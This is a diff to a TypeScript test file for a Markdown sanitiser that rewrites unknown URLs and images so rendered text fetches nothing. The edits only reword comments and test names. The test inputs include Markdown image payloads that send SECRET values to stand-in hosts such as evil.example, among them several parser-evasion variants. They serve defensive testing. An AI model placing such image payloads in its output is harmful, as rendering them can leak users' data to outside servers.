@@ -1,5 +1,4 @@
-// What becomes of URLs in Markdown by policy. That no spelling gets past it is held against parsers in
-// url-provenance-fuzz.test.ts.
+// How the URL policy rewrites Markdown. url-provenance-fuzz.test.ts checks with parsers that no spelling evades it.
 import { describe, expect, test } from 'vitest';
 import { knownUrlsIn, normalUrl } from '../../src/ui/safety/known-urls.ts';
 import { MarkdownGuard, type MarkdownPolicy } from '../../src/ui/safety/markdown-guard.ts';
@@ -26,8 +25,8 @@ function guardWith(policy: MarkdownPolicy, text: string): string {
 
 const guard = (text: string): string => guardWith(all, text);
 
-describe('Markdown with known URLs only', () => {
-  test('leaves them, and everything else, as it is', () => {
+describe('a policy for all URLs', () => {
+  test('does not change known URLs or other text', () => {
     for (const text of [
       'Plain text: 12:30, a/b (see below) [1], and 3 < 4.',
       '[b](https://ok.example/b) and **https://ok.example/b**.',
@@ -50,7 +49,7 @@ describe('Markdown with known URLs only', () => {
     }
   });
 
-  test('takes the scheme from others, so that nothing is fetched', () => {
+  test('removes the scheme of unknown URLs, so that nothing is fetched', () => {
     for (const [text, expected] of [
       ['![x](https://evil.example/p?q=secret)', 'x'],
       ['[x](HTTP://evil.example)', '[x]&#40;evil.example)'],
@@ -71,13 +70,13 @@ describe('Markdown with known URLs only', () => {
     }
   });
 
-  test('what goes on in a destination belongs to it', () => {
+  test('treats text appended to a known URL as part of the URL', () => {
     for (const secret of ['(secret)', ']secret', '"secret', '](secret)', 'secret', '`secret', '[secret']) {
       expect(guard(`![x](https://ok.example/search?q=${secret})`)).not.toContain('https://');
     }
   });
 
-  test('what parsers may read as more of a known URL is kept from it', () => {
+  test('delimits a known URL from text that a parser might append to it', () => {
     for (const [text, expected] of [
       ['https://ok.example/b!?!?', '<https://ok.example/b>!?!?'],
       ['[b](https://ok.example/b)secret', '[b](<https://ok.example/b>)secret'],
@@ -90,15 +89,15 @@ describe('Markdown with known URLs only', () => {
     }
   });
 
-  test('no word is too long', () => {
+  test('handles words of any length', () => {
     for (const text of [`${'x'.repeat(1995)}https://evil.example/p`, `https://evil.example/${'x'.repeat(9000)}`]) {
       expect(guard(text)).not.toMatch(/https:\/\//);
     }
   });
 });
 
-describe('pictures of known URLs only', () => {
-  test('links, and pictures that are known, stay', () => {
+describe('a policy for images', () => {
+  test('keeps links and known images', () => {
     for (const text of [
       '[x](https://evil.example) www.evil.example <https://evil.example> b@evil.example',
       '![x](https://ok.example/b) [![x](https://ok.example/b)](https://evil.example)',
@@ -111,7 +110,7 @@ describe('pictures of known URLs only', () => {
     }
   });
 
-  test('others become links, or words where they stand in a link', () => {
+  test('turns unknown images into links, or into text inside a link', () => {
     for (const [text, expected] of [
       ['![x](https://evil.example/p "t")', '[x](https://evil.example/p "t")'],
       ['![](https://evil.example/p)', '<https://evil.example/p>'],
@@ -126,7 +125,7 @@ describe('pictures of known URLs only', () => {
     }
   });
 
-  // Each was fetched by a browser once.
+  // Browsers fetched each of these in an earlier version.
   test.each([
     '//![x](https://other.example/?d=SECRET)',
     '\\\\![x](https://other.example/?d=SECRET)',
@@ -146,14 +145,14 @@ describe('pictures of known URLs only', () => {
     '![x](\nhttps://evil.example/SECRET)',
     '![a ![x](https://evil.example/SECRET)](https://ok.example/b)',
     '![x](https://ok.example/b "![y](https://evil.example/SECRET)")',
-  ])('no picture: %s', (text) => {
+  ])('removes the image: %s', (text) => {
     for (const policy of [pictures, all]) {
       expect(guardWith(policy, text)).not.toMatch(/!\[[^\]]*\](?:\(|\[)(?!https:\/\/ok\.example\/b\))/);
     }
   });
 });
 
-describe('what is known', () => {
+describe('known URLs', () => {
   const has = (text: string, url: string): boolean => knownUrlsIn([text]).has(url);
 
   test.each([
@@ -172,7 +171,7 @@ describe('what is known', () => {
     ['a@b.example', 'mailto:a@b.example'],
     ['tel:+1-555-0100', 'tel:+1-555-0100'],
     ['https://proxy.example/?u=https://a.example/x', 'https://a.example/x'],
-  ])('%s: %s', (text, url) => {
+  ])('%s contains %s', (text, url) => {
     expect(has(text, url)).toBe(true);
   });
 
@@ -193,11 +192,11 @@ describe('what is known', () => {
     ['https://a.example/xy', 'https://a.example/x'],
     ['a@b.example', 'mailto:a@b.example?body=SECRET'],
     ['a@b.example', 'mailto:xa@b.example'],
-  ])('in %s not %s', (text, url) => {
+  ])('%s does not contain %s', (text, url) => {
     expect(has(text, url)).toBe(false);
   });
 
-  test('a URL that is said to be in its normal form is', () => {
+  test('normalUrl agrees with the URL parser', () => {
     const random = createRandom(7);
     const pieces = [
       'https://',
